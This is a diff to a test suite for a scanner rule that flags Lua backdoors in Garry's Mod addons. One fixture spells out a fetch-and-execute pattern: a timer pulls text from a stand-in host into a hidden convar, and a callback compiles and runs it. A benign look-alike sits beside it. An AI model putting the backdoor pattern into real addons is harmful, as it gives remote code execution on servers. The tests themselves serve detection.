@@ -605,6 +605,41 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a web reply written into a hidden convar whose change callback compiles it', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_extra.lua': [
+        'CreateConVar("themes_extra", "", FCVAR_PROTECTED)',
+        'cvars.AddChangeCallback("themes_extra", function(name, old, new)',
+        '  local f = CompileString(new, "extra", false)',
+        '  if isfunction(f) then f() end',
+        'end, "apply")',
+      ].join('\n'),
+      'lua/autorun/server/sv_feed.lua': [
+        'timer.Create("feed", 3600, 0, function()',
+        '  http.Fetch("https://x.invalid/today", function(body)',
+        '    local t = util.JSONToTable(body)',
+        '    if t and t.extra then RunConsoleCommand("themes_extra", t.extra) end',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a web reply written into a convar whose change callback only prints it (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_extra.lua': [
+        'CreateConVar("themes_active", "default", FCVAR_ARCHIVE)',
+        'cvars.AddChangeCallback("themes_active", function(name, old, new)',
+        '  print("theme is now " .. new)',
+        '  local f = CompileString("return 1", "const", false)',
+        'end, "apply")',
+        'timer.Create("feed", 3600, 0, function()',
+        '  http.Fetch("https://x.invalid/today", function(body) RunConsoleCommand("themes_active", body) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
